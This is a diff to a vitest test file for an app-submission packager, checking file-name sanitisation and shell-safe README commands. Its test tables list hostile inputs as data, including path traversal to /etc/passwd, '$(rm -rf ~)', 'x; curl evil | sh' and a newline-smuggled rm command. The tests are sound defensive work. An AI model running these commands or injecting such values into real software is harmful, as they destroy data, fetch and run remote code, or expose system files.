@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { androidBuild, iosBuild } from '@tests/support/build-fixtures/build-info';
 import { listing, screenshots, submissionDraft } from '@tests/support/drafts';
+import { itEvery } from '@tests/support/it-every';
 import { product, sellingDraft } from '@tests/support/purchases';
 import { baselineOf, baselineSourceOf } from '@tests/support/baselines';
 import { jsonOf, textOf } from '@tests/support/package-files';
@@ -107,7 +108,7 @@ describe('submissionPackage', () => {
 });
 
 describe('packageFileName', () => {
-  it.each([
+  itEvery([
     ['org.lantern.journal', '1.4.0', 'org.lantern.journal-1.4.0-2026-11-20.zip'],
     ['com.example.my-app_2', '1.0+7', 'com.example.my-app_2-1.0_7-2026-11-20.zip'],
     ['../../etc/passwd', '1', 'etc_passwd-1-2026-11-20.zip'],
@@ -121,7 +122,7 @@ describe('packageFileName', () => {
     ['a\u202Egpj.exe', '1', 'a_gpj.exe-1-2026-11-20.zip'],
     ['-rf', '1', 'rf-1-2026-11-20.zip'],
     ['a'.repeat(300), '1', `${'a'.repeat(155)}-1-2026-11-20.zip`],
-  ])('%j %j', (bundleId, version, expected) => {
+  ])('every row of the table', (bundleId, version, expected) => {
     expect(packageFileName(bundleId, version, '2026-11-20')).toBe(expected);
   });
 });
@@ -327,8 +328,8 @@ describe('README.md', () => {
     expect(textOf(make({}, draft), 'README.md')).toContain('--apk app.apk');
   });
 
-  it.each(['$(rm -rf ~)', '`id`', 'x; curl evil | sh', '--json_key=/etc/passwd', 'a\nrm -rf ~', 'a"b\'c'])(
-    'puts nothing into a command that a shell would run: %j',
+  itEvery(['$(rm -rf ~)', '`id`', 'x; curl evil | sh', '--json_key=/etc/passwd', 'a\nrm -rf ~', 'a"b\'c'])(
+    'puts nothing into a command that a shell would run: …',
     (hostile) => {
       const readme = readmeOf(make({}, submissionDraft({ bundleId: hostile, version: hostile, builds: [] })));
       const commands = readme.match(/```sh\n[^`]*```/g) ?? [];
